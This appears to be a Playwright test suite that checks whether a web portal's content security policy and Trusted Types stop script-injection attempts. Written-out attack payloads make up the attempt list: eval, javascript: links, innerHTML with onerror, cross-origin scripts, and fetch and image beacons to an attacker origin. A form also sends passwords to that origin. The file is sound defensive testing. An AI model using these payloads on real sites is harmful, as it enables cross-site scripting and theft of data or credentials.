/** Somebody has found a place where a text of theirs becomes part of a page. The page's policy is what is left. */
import { expect, test, watchPolicy } from '../support/attack-test';

interface Attempt {
  readonly what: string;
  /**
   * Runs in the page; `evil` is the attacker's origin. What is evaluated needs a task of its own: a debugger,
   * which runs this, may evaluate.
   */
  readonly run: (evil: string) => unknown;
  /** The directive that stops it. */
  readonly stoppedBy: RegExp | null;
}

const TRUSTED_TYPES = /^require-trusted-types-for$/;
const SCRIPTS = /^(script-src(-elem|-attr)?|require-trusted-types-for)$/;

const attempts: readonly Attempt[] = [
  {
    what: 'a script element with code in it',
    run: () => {
      const script = document.createElement('script');
      script.append('window.attacked = true');
      document.body.append(script);
    },
    // Chromium does not run it, and tells nobody.
    stoppedBy: null,
  },
  {
    what: 'code that becomes the text of a script element',
    run: () => {
      const script = document.createElement('script');
      script.text = 'window.attacked = true';
      document.body.append(script);
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'an event handler in an attribute',
    run: () => {
      const button = document.createElement('button');
      button.setAttribute('onclick', 'window.attacked = true');
      document.body.append(button);
      button.click();
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'eval',
    // biome-ignore lint/security/noGlobalEval: this is the attack
    run: () => setTimeout(() => globalThis.eval('window.attacked = true')),
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a function out of text',
    run: () => setTimeout(() => Reflect.construct(Function, ['window.attacked = true'])()),
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a timer with text',
    run: () => Reflect.apply(setTimeout, window, ['window.attacked = true', 0]),
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a link with javascript:',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.attacked = true';
      document.body.append(link);
      link.click();
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a script of another origin',
    run: (evil) => {
      const script = document.createElement('script');
      script.src = `${evil}/x.js`;
      document.head.append(script);
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a script out of data',
    run: () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,window.attacked = true';
      document.head.append(script);
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a script out of a blob, whose origin is the portal’s',
    run: () => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(['window.attacked = true'], { type: 'text/javascript' }));
      document.head.append(script);
    },
    stoppedBy: SCRIPTS,
  },
  {
    what: 'a module of another origin',
    run: (evil) => import(/* webpackIgnore: true */ `${evil}/x.js`).catch(() => undefined),
    stoppedBy: SCRIPTS,
  },
  {
    what: 'markup as innerHTML',
    run: () => {
      document.body.innerHTML = '<img src="x" onerror="window.attacked = true">';
    },
    stoppedBy: TRUSTED_TYPES,
  },
  {
    what: 'markup beside an element',
    run: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
    stoppedBy: TRUSTED_TYPES,
  },
  {
    what: 'markup that is written',
    run: () => document.write('<b>x</b>'),
    stoppedBy: TRUSTED_TYPES,
  },
  {
    what: 'markup that is parsed',
    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
    stoppedBy: TRUSTED_TYPES,
  },
  {
    what: 'a frame with a document of its own',
    run: () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<b>x</b>';
    },
    stoppedBy: TRUSTED_TYPES,
  },
  {
    what: 'a policy that trusts everything',
    run: () => {
      const trustedTypes = Reflect.get(window, 'trustedTypes') as { createPolicy(...of: unknown[]): void };
      trustedTypes.createPolicy('evil', { createHTML: (html: string) => html });
    },
    stoppedBy: /^trusted-types$/,
  },
  {
    what: 'a frame of another origin',
    run: (evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    },
    stoppedBy: /^frame-src$/,
  },
  {
    what: 'what it has read, in a request',
    run: (evil) => fetch(`${evil}/?secret=1`).catch(() => undefined),
    stoppedBy: /^connect-src$/,
  },
  {
    what: 'what it has read, in the address of a picture',
    run: (evil) => {
      new Image().src = `${evil}/?secret=1`;
    },
    stoppedBy: /^img-src$/,
  },
  {
    what: 'a form that sends passwords elsewhere',
    run: (evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/passwords`;
      document.body.append(form);
      form.submit();
    },
    stoppedBy: /^form-action$/,
  },
  {
    what: 'another base for the page’s addresses',
    run: (evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    },
    stoppedBy: /^base-uri$/,
  },
  {
    what: 'a plug-in',
    run: (evil) => {
      const object = document.createElement('object');
      object.data = `${evil}/x.swf`;
      document.body.append(object);
    },
    stoppedBy: /^(object-src|require-trusted-types-for)$/,
  },
];

for (const { what, run, stoppedBy } of attempts) {
  test(`${what} is refused`, async ({ page, visitor, attacker, attacked }) => {
    const refused = await watchPolicy(page);
    await visitor.open('/start');
    await expect(visitor.title).toBeVisible();
    expect(await refused(), 'the page itself does nothing of the kind').toEqual([]);
    // Some are refused with an exception, others silently.
    await page.evaluate(run, attacker.origin).catch(() => undefined);
    if (stoppedBy !== null) await expect.poll(refused).toContainEqual(expect.stringMatching(stoppedBy));
    expect(await attacked()).toBe(false);
    expect(attacker.asked).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/start');
  });
}

test('no page of the portal does anything that its policy refuses', async ({ page, visitor }) => {
  const refused = await watchPolicy(page);
  await visitor.signInAs('both');
  for (const address of [
    '/start',
    '/license_generator',
    '/hoops/communicator/downloads/latest',
    '/hoops/communicator/training',
    '/platform-products/autocad_oem/downloads/latest',
    '/hoops/exchange/trial',
    '/hoops/cadflow',
  ]) {
    await visitor.open(address);
    await expect(visitor.title).toBeVisible();
    await expect(visitor.main.locator('[aria-busy=true]')).toHaveCount(0);
    expect([address, await refused()]).toEqual([address, []]);
  }
});
